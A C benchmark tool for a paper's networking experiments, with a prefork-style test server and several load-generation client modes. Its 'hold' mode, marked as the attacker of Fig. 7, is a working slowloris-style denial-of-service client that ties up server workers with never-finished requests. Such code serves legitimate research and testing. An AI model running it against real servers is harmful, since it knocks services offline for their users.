// SPDX-License-Identifier: GPL-2.0
/*
 * Load generator and server for the paper's experiments (bench/paper.sh,
 * bench/README.md "The paper's evaluation"). Every request is 32 bytes
 * (a complete HTTP/1.0 request), every reply 1,024 bytes (header and
 * body), after which the server closes: one request is one transaction of
 * the paper's §5.1.
 *
 *   paper_load server PORT WORKERS
 *	WORKERS threads, each accepting and serving one connection at a
 *	time, as a prefork web server does (backlog 511, 300 s read timeout)
 *   paper_load tx ADDR PORT MS
 *	sequential transactions for MS milliseconds; prints
 *	"tx N failed F seconds S rate R"
 *   paper_load fetch ADDR PORT N TIMEOUT_MS
 *	N fetches at once, each within TIMEOUT_MS; prints "fetch ok K of N"
 *   paper_load load ADDR PORT CONC SECONDS TIMEOUT_MS
 *	CONC clients fetching in a loop for SECONDS; prints
 *	"load ok K failed F seconds S rate R" (R: completed requests/s)
 *   paper_load hold ADDR PORT N
 *	keeps N connections open (handshake done, request never finished),
 *	reopening whatever closes; prints "held H connecting C" every second
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define REQ_LEN 32
#define REPLY_LEN 1024

/* exactly REQ_LEN bytes */
static const char request[] = "GET / HTTP/1.0\r\nX: paper-tap\r\n\r\n";
static char reply[REPLY_LEN];
static struct sockaddr_storage dst;
static socklen_t dst_len;

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int parse_dst(const char *addr, int port)
{
	struct sockaddr_in *d4 = (struct sockaddr_in *)&dst;
	struct sockaddr_in6 *d6 = (struct sockaddr_in6 *)&dst;

	if (inet_pton(AF_INET, addr, &d4->sin_addr) == 1) {
		d4->sin_family = AF_INET;
		d4->sin_port = htons((uint16_t)port);
		dst_len = sizeof(*d4);
		return 0;
	}
	if (inet_pton(AF_INET6, addr, &d6->sin6_addr) == 1) {
		d6->sin6_family = AF_INET6;
		d6->sin6_port = htons((uint16_t)port);
		dst_len = sizeof(*d6);
		return 0;
	}
	fprintf(stderr, "paper_load: bad address %s\n", addr);
	return -1;
}

static void set_timeouts(int fd, int ms)
{
	struct timeval tv = { .tv_sec = ms / 1000, .tv_usec = (ms % 1000) * 1000 };

	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
}

/* ---- server ------------------------------------------------------------ */

static int listen_fd;

static void serve_one(int c)
{
	char buf[512];
	size_t got = 0;
	ssize_t n;

	set_timeouts(c, 300000);
	/* read up to the end of the request's header */
	while (got < sizeof(buf) - 1) {
		n = read(c, buf + got, sizeof(buf) - 1 - got);
		if (n <= 0)
			return;
		got += (size_t)n;
		buf[got] = 0;
		if (strstr(buf, "\r\n\r\n"))
			break;
	}
	for (size_t off = 0; off < REPLY_LEN; off += (size_t)n) {
		n = write(c, reply + off, REPLY_LEN - off);
		if (n <= 0)
			return;
	}
}

static void *worker(void *arg)
{
	int c;

	(void)arg;
	for (;;) {
		c = accept(listen_fd, NULL, NULL);
		if (c < 0)
			continue;
		serve_one(c);
		close(c);
	}
	return NULL;
}

static int server(int port, int workers)
{
	struct sockaddr_in6 sa = { .sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port) };
	int one = 1, zero = 0, hdr;
	pthread_t t;

	hdr = snprintf(reply, sizeof(reply),
		       "HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n", 0);
	hdr = snprintf(reply, sizeof(reply),
		       "HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n",
		       REPLY_LEN - hdr - 1);
	memset(reply + hdr, 'x', REPLY_LEN - (size_t)hdr);
	listen_fd = socket(AF_INET6, SOCK_STREAM, 0);
	if (listen_fd < 0)
		return perror("socket"), 1;
	setsockopt(listen_fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	setsockopt(listen_fd, IPPROTO_IPV6, IPV6_V6ONLY, &zero, sizeof(zero));
	if (bind(listen_fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(listen_fd, 511) < 0)
		return perror("bind/listen"), 1;
	for (int i = 0; i < workers; i++)
		if (pthread_create(&t, NULL, worker, NULL))
			return perror("pthread_create"), 1;
	pause();
	return 0;
}

/* ---- clients ----------------------------------------------------------- */

/* one transaction; 0 when the whole reply came */
static int transaction(int timeout_ms)
{
	char buf[2048];
	size_t got = 0;
	ssize_t n;
	int fd, ok = -1;

	fd = socket(dst.ss_family, SOCK_STREAM, 0);
	if (fd < 0)
		return -1;
	set_timeouts(fd, timeout_ms);
	if (connect(fd, (struct sockaddr *)&dst, dst_len) == 0 &&
	    write(fd, request, REQ_LEN) == REQ_LEN) {
		while ((n = read(fd, buf, sizeof(buf))) > 0)
			got += (size_t)n;
		if (n == 0 && got == REPLY_LEN)
			ok = 0;
	}
	close(fd);
	return ok;
}

static int tx(int ms)
{
	double t0 = now(), t;
	long n = 0, bad = 0;

	do {
		if (transaction(10000))
			bad++;
		else
			n++;
		t = now() - t0;
	} while (t * 1000 < ms);
	printf("tx %ld failed %ld seconds %.3f rate %.1f\n", n, bad, t, n / t);
	return bad ? 1 : 0;
}

static int timeout_ms, run_seconds;
static atomic_long done_ok, done_bad;
static double t_end;

static void *fetch_one(void *arg)
{
	(void)arg;
	if (transaction(timeout_ms))
		atomic_fetch_add(&done_bad, 1);
	else
		atomic_fetch_add(&done_ok, 1);
	return NULL;
}

static void *load_loop(void *arg)
{
	(void)arg;
	while (now() < t_end) {
		if (transaction(timeout_ms))
			atomic_fetch_add(&done_bad, 1);
		else if (now() <= t_end)
			atomic_fetch_add(&done_ok, 1);
	}
	return NULL;
}

static int run_threads(int n, void *(*fn)(void *))
{
	pthread_t *t = calloc((size_t)n, sizeof(*t));
	int started = 0;

	if (!t)
		return -1;
	for (; started < n; started++)
		if (pthread_create(&t[started], NULL, fn, NULL))
			break;
	for (int i = 0; i < started; i++)
		pthread_join(t[i], NULL);
	free(t);
	return started == n ? 0 : -1;
}

static int fetch(int n)
{
	if (run_threads(n, fetch_one))
		return perror("pthread_create"), 1;
	printf("fetch ok %ld of %d\n", (long)done_ok, n);
	return 0;
}

static int load(int conc)
{
	double t0 = now();

	t_end = t0 + run_seconds;
	if (run_threads(conc, load_loop))
		return perror("pthread_create"), 1;
	printf("load ok %ld failed %ld seconds %d rate %.1f\n", (long)done_ok, (long)done_bad,
	       run_seconds, (double)done_ok / run_seconds);
	return 0;
}

/* ---- the attacker of Fig. 7 ------------------------------------------- */

static int open_nb(void)
{
	int fd = socket(dst.ss_family, SOCK_STREAM | SOCK_NONBLOCK, 0);

	if (fd < 0)
		return -1;
	if (connect(fd, (struct sockaddr *)&dst, dst_len) < 0 && errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	return fd;
}

static int hold(int n)
{
	struct pollfd *p = calloc((size_t)n, sizeof(*p));
	char *up = calloc((size_t)n, 1), buf[2048];
	double next = now() + 1;
	int held = 0, err;
	socklen_t len;

	if (!p || !up)
		return 1;
	signal(SIGPIPE, SIG_IGN);
	for (int i = 0; i < n; i++)
		p[i].fd = -1;
	for (;;) {
		for (int i = 0; i < n; i++) {
			if (p[i].fd < 0) {
				p[i].fd = open_nb();
				up[i] = 0;
			}
			p[i].events = up[i] ? POLLIN : POLLOUT;
		}
		poll(p, (nfds_t)n, 200);
		for (int i = 0; i < n; i++) {
			if (p[i].fd < 0 || !p[i].revents)
				continue;
			err = 0;
			len = sizeof(err);
			if (!up[i] && (p[i].revents & POLLOUT) &&
			    !getsockopt(p[i].fd, SOL_SOCKET, SO_ERROR, &err, &len) && !err) {
				/* a request that never ends keeps a worker busy */
				if (write(p[i].fd, request, 16) == 16) {
					up[i] = 1;
					held++;
					continue;
				}
			}
			if (up[i] && (p[i].revents & POLLIN) && read(p[i].fd, buf, sizeof(buf)) > 0)
				continue;
			held -= up[i];
			close(p[i].fd);
			p[i].fd = -1;
		}
		if (now() >= next) {
			printf("held %d connecting %d\n", held, n - held);
			fflush(stdout);
			next += 1;
		}
	}
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";

	signal(SIGPIPE, SIG_IGN);
	if (!strcmp(mode, "server") && argc == 4)
		return server(atoi(argv[2]), atoi(argv[3]));
	if (argc >= 4 && parse_dst(argv[2], atoi(argv[3])))
		return 2;
	if (!strcmp(mode, "tx") && argc == 5)
		return tx(atoi(argv[4]));
	if (!strcmp(mode, "fetch") && argc == 6) {
		timeout_ms = atoi(argv[5]);
		return fetch(atoi(argv[4]));
	}
	if (!strcmp(mode, "load") && argc == 7) {
		run_seconds = atoi(argv[5]);
		timeout_ms = atoi(argv[6]);
		return load(atoi(argv[4]));
	}
	if (!strcmp(mode, "hold") && argc == 5)
		return hold(atoi(argv[4]));
	fprintf(stderr, "usage: paper_load server PORT WORKERS | tx ADDR PORT SECONDS |\n"
		"  fetch ADDR PORT N TIMEOUT_MS | load ADDR PORT CONC SECONDS TIMEOUT_MS |\n"
		"  hold ADDR PORT N\n");
	return 2;
}
